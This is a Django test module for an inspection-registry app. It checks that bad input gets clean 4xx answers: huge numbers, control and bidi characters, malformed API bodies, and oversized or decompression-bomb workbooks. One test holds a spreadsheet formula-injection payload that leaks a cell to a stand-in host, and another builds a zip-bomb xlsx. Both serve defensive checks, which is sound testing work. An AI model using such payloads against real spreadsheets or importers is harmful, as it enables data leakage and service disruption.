"""Bad input gets a clear answer, never a server error: numbers beyond 64 bits, digits that are
not ASCII ("²"), words where numbers belong, and a code with a slash."""

from __future__ import annotations

import io
import json
from typing import Any
from unittest import mock

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from onevisit.inspections.tests.base import SYSTEM, VisitTestCase
from onevisit.lib.params import whole_number

HOSTILE = ["99999999999999999999", "9223372036854775808", "²", "abc", "-1", " ", "1e3"]


class HostileQueryTest(VisitTestCase):
    def test_it_reads_only_plain_bounded_whole_numbers(self) -> None:
        assert whole_number("42") == 42
        assert whole_number("²") is None and whole_number("9" * 20) is None
        assert whole_number("91", high=90) is None and whole_number("0", low=1) is None

    def test_it_answers_every_hostile_number_without_a_server_error(self) -> None:
        pages = [
            (self.alice, reverse("rectification:ledger"), "body"),
            (None, reverse("draws:draw_results"), "draw"),
            (self.alice, reverse("planning:rules"), "edit"),
            (self.alice, reverse("registry:enterprise_list"), "page"),
        ]
        for user, url, name in pages:
            client = self.client_for(user)
            for value in HOSTILE:
                response = client.get(url, {name: value})
                assert response.status_code < 500, (url, name, value, response.status_code)

    def test_it_drops_what_cannot_be_in_a_code(self) -> None:
        response = self.client_for(None).get(reverse("inspections:verify_entry"), {"code": "a/b"})
        assert response.status_code == 302 and response["Location"].endswith("/v/ab")


class EnterpriseFormCase(VisitTestCase):
    def edit_enterprise(self, **changes: str) -> None:
        """The supervisor sends the enterprise's edit form with `changes`; it is saved."""
        enterprise = self.bearing
        url = reverse("registry:enterprise_edit", args=[enterprise.pk])
        page = self.client_for(self.supervisor).get(url)
        data = {k: v for k, v in page.context["form"].initial.items() if v is not None}
        data.update(
            district=enterprise.district_id, industry_code=enterprise.industry_code, **changes
        )
        response = self.client_for(self.supervisor).post(url, data)
        assert response.status_code == 302, response.context["form"].errors


class ControlCharacterTest(EnterpriseFormCase):
    def test_it_drops_control_characters_from_a_web_form_before_the_view_reads_it(self) -> None:
        enterprise = self.bearing
        self.edit_enterprise(address="临清市\x05先锋路\x7f1号", legal_representative="张\x00三")
        enterprise.refresh_from_db()
        assert (enterprise.address, enterprise.legal_representative) == ("临清市先锋路1号", "张三")


class InvisibleCharacterTest(EnterpriseFormCase):
    """A bidi override (U+202E) or a zero-width space (U+200B) never reaches a stored name: a web
    form drops it, the API refuses it, an import drops it."""

    def test_it_drops_bidi_overrides_and_zero_width_characters_from_a_web_form(self) -> None:
        enterprise = self.bearing
        self.edit_enterprise(
            name="聊城\u202e鑫源\u200b轴承有限公司", address="临清市\ufeff先锋路\u20661号\u2069"
        )
        enterprise.refresh_from_db()
        assert (enterprise.name, enterprise.address) == ("聊城鑫源轴承有限公司", "临清市先锋路1号")

    def test_it_refuses_them_in_the_api(self) -> None:
        from onevisit.accounts.actions import do_create_api_token

        _, raw = do_create_api_token(user=self.supervisor, name="t")
        client = self.client_for(None)
        for name in ("聊城\u202e鑫源", "聊城\u200b鑫源", "\u200f聊城"):
            response = client.patch(
                f"/api/enterprises/{self.bearing.pk}",
                json.dumps({"name": name}),
                content_type="application/json",
                headers={"Authorization": f"Bearer {raw}"},
            )
            assert response.status_code == 422, name

    def test_it_drops_them_from_imported_cells(self) -> None:
        from onevisit.lib.imports import text_cell

        assert text_cell({"name": "\u202e聊城\u200b鑫源\u200d"}, "name", 50) == "聊城鑫源"


class SpreadsheetTest(VisitTestCase):
    """Spreadsheets are code: a name that looks like a formula comes back as text, and a control
    character stored by some other way does not break the export."""

    def test_it_exports_formula_looking_text_as_text(self) -> None:
        from onevisit.testing import make_enterprise

        trap = '=HYPERLINK("http://x/?leak="&B3,"点击查看详情")'
        make_enterprise(trap, serial=7, legal_representative="张\x05三")
        response = self.client_for(self.alice).get(reverse("registry:enterprise_export"))
        assert response.status_code == 200
        sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
        cells = [cell for row in sheet.iter_rows() for cell in row]
        assert all(cell.data_type != "f" for cell in cells)  # nothing runs as a formula
        values = {cell.value for cell in cells}
        assert trap in values and "张三" in values


class HostileApiTest(VisitTestCase):
    """The API validates at the edge: every answer to bad input is a documented 4xx."""

    def bearer(self, user: object) -> Any:
        from django.test import Client

        from onevisit.accounts.actions import do_create_api_token

        _, raw = do_create_api_token(user=user, name="fuzz")  # type: ignore[arg-type]
        return Client(headers={"Authorization": f"Bearer {raw}"})

    def test_it_refuses_numbers_beyond_the_database(self) -> None:
        client = self.bearer(self.supervisor)
        huge = "99999999999999999999"
        for url in [
            f"/api/public/draw-results?draw={huge}",
            f"/api/public/draw-results?offset={2**63}",
            f"/api/public/draw-results?limit={2**63}",
            f"/api/enterprises/?page={2**59 + 1}",
            f"/api/inspectors/?body_id={2**63}",
            f"/api/enterprises/{huge}",
            f"/api/public/draws/{huge}",
        ]:
            assert client.get(url).status_code == 422, url

    def test_it_answers_an_unknown_api_path_in_json(self) -> None:
        response = self.client_for(None).get("/api/bodies/null,null")
        assert response.status_code in {404, 422} and response["Content-Type"].startswith(
            "application/json"
        )
        assert self.client_for(None).get("/api/nowhere").json() == {"detail": "Not Found"}

    def test_it_refuses_null_and_non_objects_in_a_partial_update(self) -> None:
        client = self.bearer(self.supervisor)
        enterprise = self.bearing
        inspector = self.ivan_inspector
        for url, body in [
            (f"/api/enterprises/{enterprise.pk}", {"address": None}),
            (f"/api/enterprises/{enterprise.pk}", {"former_names": None}),
            (f"/api/enterprises/{enterprise.pk}", {"legal_representative": None}),
            (f"/api/enterprises/{enterprise.pk}", [None, None]),
            (f"/api/enterprises/{enterprise.pk}", {"adress": "misspelt"}),
            (f"/api/inspectors/{inspector.pk}", {"phone": None}),
            (f"/api/inspectors/{inspector.pk}", {"phone": "0635\n8888"}),
            (f"/api/inspectors/{inspector.pk}", {"certificate_valid_until": "7955-01-01"}),
            (f"/api/inspectors/{inspector.pk}", {"certificate_valid_from": "0001-01-01"}),
            (f"/api/enterprises/{enterprise.pk}", {"legal_representative": "张\x05三"}),
        ]:
            response = client.patch(url, json.dumps(body), content_type="application/json")
            assert response.status_code == 422, (url, body, response.content)
        enterprise.refresh_from_db()
        assert "\x05" not in enterprise.legal_representative

    def test_it_documents_every_error_it_answers(self) -> None:
        schema = self.client_for(None).get("/api/openapi.json").json()
        patch = schema["paths"]["/api/enterprises/{enterprise_id}"]["patch"]["responses"]
        assert {"200", "400", "401", "403", "404", "422"} <= set(patch)
        public = schema["paths"]["/api/public/draws"]["get"]["responses"]
        assert "401" not in public and "422" in public


class ImportBombTest(VisitTestCase):
    """An xlsx is measured before it is parsed: a small file that unpacks to gigabytes, or a
    cell longer than any register holds, is refused with a reason and changes nothing."""

    def workbook(self, shared_strings: bytes) -> bytes:
        import zipfile

        from openpyxl import Workbook

        book = Workbook()
        book.worksheets[0].append(
            ["统一社会信用代码", "企业名称", "行政区划代码", "国民经济行业代码"]
        )
        plain = io.BytesIO()
        book.save(plain)
        swollen = io.BytesIO()
        with (
            zipfile.ZipFile(plain) as source,
            zipfile.ZipFile(swollen, "w", zipfile.ZIP_DEFLATED) as target,
        ):
            for item in source.infolist():
                target.writestr(item.filename, source.read(item.filename))
            target.writestr("xl/sharedStrings.xml", shared_strings)
        return swollen.getvalue()

    def test_it_refuses_a_workbook_that_swells_before_reading_it(self) -> None:
        from onevisit.audit.actions import Actor
        from onevisit.registry.imports import import_enterprises
        from onevisit.registry.models import Enterprise

        before = Enterprise.objects.count()
        data = self.workbook(b"<sst>" + b" " * (40 * 1024 * 1024) + b"</sst>")
        assert len(data) < 200 * 1024
        with mock.patch(
            "onevisit.lib.tabular._SpoolingReader", side_effect=AssertionError("parsed")
        ):
            report = import_enterprises(data, "bomb.xlsx", actor=Actor.system("test"))
        assert "sharedStrings.xml" in report.file_error and not report.ok
        assert Enterprise.objects.count() == before

    def test_it_reads_every_row_a_sheet_holds_whatever_its_dimension_claims(self) -> None:
        """A workbook whose <dimension> says two rows but that holds ten imports ten."""
        from onevisit.audit.actions import Actor
        from onevisit.registry.imports import import_enterprises
        from onevisit.registry.models import Enterprise
        from onevisit.testing import uscc
        from onevisit.testing.workbooks import with_dimension, workbook

        rows: list[list[object]] = [
            [uscc(300 + n), f"聊城测试{n}号轴承有限公司", "371581", "3411"] for n in range(10)
        ]
        data = workbook(["统一社会信用代码", "企业名称", "行政区划代码", "国民经济行业代码"], rows)
        report = import_enterprises(
            with_dimension(data, "A1:D2"), "lying.xlsx", actor=Actor.system("test")
        )
        assert report.ok and report.rows == 10 and report.created == 10
        assert Enterprise.objects.filter(name__startswith="聊城测试").count() == 10

    def test_it_reads_a_large_table_of_shared_strings_in_bounded_memory(self) -> None:
        """32 MB of shared strings: openpyxl alone holds them whole (about 90 MB more); the
        import spools them to disk and stays under 64 MB over its start, reading every row."""
        import os
        import subprocess
        import sys

        child = (
            "import resource, django\n"
            "django.setup()\n"
            "from onevisit.testing.workbooks import many_strings_workbook\n"
            "from onevisit.lib.tabular import Column, open_table\n"
            "data = many_strings_workbook(32)\n"
            "base = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
            "columns = [Column('uscc', ('统一社会信用代码',)), Column('name', ('企业名称',))]\n"
            "rows = sum(1 for _ in open_table(data, 'x.xlsx', columns, 10**9).rows)\n"
            "grown = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - base\n"
            "print(rows, grown // 1024)\n"
        )
        done = subprocess.run(
            [sys.executable, "-c", child],
            capture_output=True,
            text=True,
            check=True,
            timeout=120,
            env={**os.environ, "DJANGO_SETTINGS_MODULE": "onevisit.settings"},
        )
        rows, grown_mb = (int(n) for n in done.stdout.split())
        assert rows == 2000
        assert grown_mb < 64, f"{grown_mb} MB"

    def test_it_refuses_a_cell_longer_than_a_register_holds(self) -> None:
        from onevisit.lib.tabular import Column, TableError, read_table

        rows = "uscc,name\n" + "1," + "长" * 5000 + "\n"
        try:
            read_table(rows.encode(), "long.csv", [Column("uscc", ()), Column("name", ())], 10**7)
        except TableError as error:
            assert "2" in str(error.localized(str))
        else:
            raise AssertionError("a 5,000-character cell was read")


class BrokenBodyTest(VisitTestCase):
    def test_it_answers_a_multipart_post_without_a_boundary_without_a_server_error(self) -> None:
        client = self.client_for(self.supervisor)
        response = client.post("/api/bodies/17", b"x", content_type="multipart/form-data")
        assert response.status_code < 500
        response = self.client.post(
            "/api/open311/v2/requests.json", b"x", content_type="multipart/form-data"
        )
        assert response.status_code == 400
        assert response.json()[0]["code"] == 400


class FormerServerErrorTest(VisitTestCase):
    """Each of these answered 500 once; each now gets a clear answer."""

    def test_it_refuses_a_second_rule_for_the_same_industries_in_the_form(self) -> None:
        from onevisit.planning.models import FrequencyRule

        client = self.client_for(self.alice)
        form = {
            "save_rule": "1",
            "rule-industry_prefix": "",
            "rule-red_per_year": "4",
            "rule-yellow_per_year": "2",
            "rule-green_sample_share": "0.05",
            "rule-annual_cap": "6",
        }
        assert client.post(reverse("planning:rules"), form).status_code == 302
        again = client.post(reverse("planning:rules"), {**form, "rule-annual_cap": "5"})
        assert again.status_code == 200
        assert "已有" in again.content.decode()
        assert FrequencyRule.objects.filter(body=self.market).count() == 1

    def test_it_refuses_an_item_id_beyond_the_database_in_special_inspections(self) -> None:
        from onevisit.planning.actions import do_generate_plan

        plan = do_generate_plan(actor=SYSTEM, body=self.market, year=2027)
        response = self.client_for(self.alice).post(
            reverse("planning:plan_special", args=[plan.pk]),
            {
                "usccs": self.bearing.uscc,
                "start": "2027-03-01",
                "end": "2027-03-31",
                "items": "99999999999999999999",
                "reason": "专项",
            },
        )
        assert response.status_code == 302 and plan.entries.filter(kind="special").count() == 0

    def test_it_refuses_a_holiday_notice_beyond_the_calendar(self) -> None:
        from onevisit.workdays.imports import import_notice

        data = "日期,类型,节日\n2101-01-01,放假,元旦\n".encode()
        report = import_notice(data, "2101.csv", actor=SYSTEM)
        assert not report.ok and "2100" in str(report.errors[0])
        upload = SimpleUploadedFile("2101.csv", data)
        page = self.client_for(self.supervisor).post(
            reverse("operations:import"), {"kind": "holidays", "file": upload}
        )
        assert page.status_code == 200 and "2100" in page.content.decode()

    def test_it_answers_a_permission_id_of_30_digits_in_the_admin(self) -> None:
        from onevisit.accounts.models import User

        steward = User.objects.create_superuser("steward", password="x" * 12)
        client = self.client_for(steward)
        response = client.post(
            "/admin/auth/group/add/", {"name": "抽查组", "permissions": "9" * 30}
        )
        # SQLite refuses the number when the query runs (a 400 that says so); PostgreSQL finds
        # no such permission (the form's own error)
        from django.contrib.auth.models import Group

        assert response.status_code in {200, 400} and not Group.objects.exists()
        if response.status_code == 400:
            assert "过大" in response.content.decode()
